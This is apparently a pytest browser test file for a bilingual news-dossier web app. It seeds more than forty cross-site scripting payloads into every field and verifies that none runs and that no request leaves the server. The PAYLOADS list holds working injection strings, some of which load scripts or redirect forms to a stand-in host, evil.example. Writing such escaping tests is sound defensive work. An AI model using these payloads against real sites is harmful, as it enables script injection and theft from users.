"""Forty ways to smuggle a script into a title, a text, a name, an address: none runs, nothing is sent out."""

import httpx
import pytest

from tawatur.flow.ask import Dossier
from tawatur.model import EntityType
from tawatur.web.app import create_app
from tawatur.web.report import render_report

pytestmark = pytest.mark.browser

# Each sets `pwned` or asks a host that is not there. They are text, and must stay text.
PAYLOADS = [
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<img src=x onerror=pwned=1>",
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><mtext></mtext><style><img src=x onerror=pwned=1></style></math>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:pwned=1></object>",
    "<embed src=//evil.example/e>",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<a href=javascript:pwned=1 autofocus tabindex=0 onfocus=pwned=1>x</a>",
    '" autofocus onfocus=pwned=1 x="',
    "' autofocus onfocus=pwned=1 x='",
    "` onmouseover=pwned=1 `",
    "javascript:pwned=1//",
    "java\tscript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button autofocus>x",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=pwned=1 hx-on::init=pwned=1 hx-trigger=load>x</div>",
    "{{ 7*7 }}{% include 'x' %}${pwned=1}{{constructor.constructor('pwned=1')()}}",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "\u202e<script>pwned=1</script>\u2066",
    '{"__proto__": {"pwned": 1}}</script><script>pwned=1</script>',
]


@pytest.fixture(scope="module")
def attacked(newsroom, tmp_path_factory):
    """A dossier in which every value is an attack."""
    stories = []
    for number, payload in enumerate(PAYLOADS):
        text = f"{payload}\nقال {payload} {number} إن {payload} وقع عام 2024."
        story = newsroom.Story(text=text, title=payload, outlet=payload, url=payload, via=(payload,), place=payload)
        source = story.name(payload, payload, english=payload, role=payload, nth=1)
        story.name(f"{number} إن", payload, kind=EntityType.OTHER)
        story.time("عام 2024", "2024")
        story.said(payload, [source, f"{payload} {number}"], cue="قال")
        stories.append(story)
    path = tmp_path_factory.mktemp("attacks") / "attacked<img src=x onerror=pwned=1>.tawatur"
    return newsroom.write(path, stories)


@pytest.fixture
def watch(browser):
    """A page that notes every script that runs and every request that leaves."""
    # Without the content policy: the escaping alone has to hold.
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    page.ran, page.left = [], []
    page.on("dialog", lambda dialog: (page.ran.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: page.left.append(request.url))
    yield page
    context.close()


def assert_harmless(page, path):
    assert page.evaluate("typeof pwned") == "undefined", path
    assert (
        page.evaluate("document.querySelectorAll('iframe, object, embed, base, [onerror], [onload]').length") == 0
    )
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "file:"}, path


def test_there_are_forty_and_more():
    assert len(set(PAYLOADS)) >= 40


def test_no_attack_runs_in_any_view(attacked, serve, watch):
    with serve(create_app(attacked)) as address, httpx.Client(base_url=address) as client:
        lists = ["", "articles", "statements", "claims", "entities", "timeline", "intakes", "about"]
        paths = [f"/{code}/{name}" for code in ("ar", "en") for name in lists]
        paths.append("/en/" + "x" * 10 + "%3Cscript%3Epwned=1%3C/script%3E")
        for row in client.get("/api/v1/articles?limit=100").json()["items"]:
            article = client.get(f"/api/v1/articles/{row['id']}").json()
            paths.append(f"/ar/articles/{row['id']}?finding={article['statements'][0]['id']}")
        entities = client.get("/api/v1/entities?limit=100").json()["items"][::2]
        claims = client.get("/api/v1/claims?limit=10").json()["items"]
        paths += [f"/en/entities/{row['id']}" for row in entities] + [f"/ar/claims/{row['id']}" for row in claims]
        for path in paths:
            watch.goto(address + path)
            assert_harmless(watch, path)
        for number, payload in enumerate(PAYLOADS):
            query = httpx.QueryParams(q=payload, outlet=payload, query=payload, finding=payload)
            watch.goto(f"{address}/ar/{('search', 'articles', 'entities')[number % 3]}?{query}")
            assert_harmless(watch, payload)
        assert watch.ran == []
        assert [url for url in watch.left if not url.startswith(f"{address}/")] == []


def test_no_attack_runs_in_a_card_that_is_loaded_later(attacked, serve, watch):
    with serve(create_app(attacked)) as address, httpx.Client(base_url=address) as client:
        for row in client.get("/api/v1/articles?limit=100").json()["items"][::4]:
            watch.goto(f"{address}/ar/articles/{row['id']}")
            watch.locator(".outline a").first.click()
            watch.wait_for_selector("[data-card]")
            assert_harmless(watch, row["title"])
        watch.goto(f"{address}/en/timeline")
        watch.locator("[data-group]").first.focus()
        watch.keyboard.press("Enter")
        watch.wait_for_selector(".picked li")
        assert_harmless(watch, "timeline")
        assert watch.ran == []
        assert [url for url in watch.left if not url.startswith(f"{address}/")] == []


@pytest.mark.parametrize("code", ["ar", "en"])
def test_no_attack_runs_in_the_report(attacked, watch, tmp_path, code):
    file = tmp_path / "report.html"
    with Dossier.open(attacked) as opened:
        file.write_text(render_report(opened, code), encoding="utf-8")
    watch.goto(file.as_uri())
    assert_harmless(watch, "report")
    assert watch.ran == []
    assert watch.left == [file.as_uri()]
    assert watch.locator("h3").count() >= len(PAYLOADS)


def test_controls_that_turn_text_are_seen(attacked, serve, watch):
    with serve(create_app(attacked)) as address:
        watch.goto(f"{address}/en/articles?order=title")
        seen = watch.locator(".item-title .control").all_text_contents()
        assert {"RLO", "LRI"} <= set(seen)
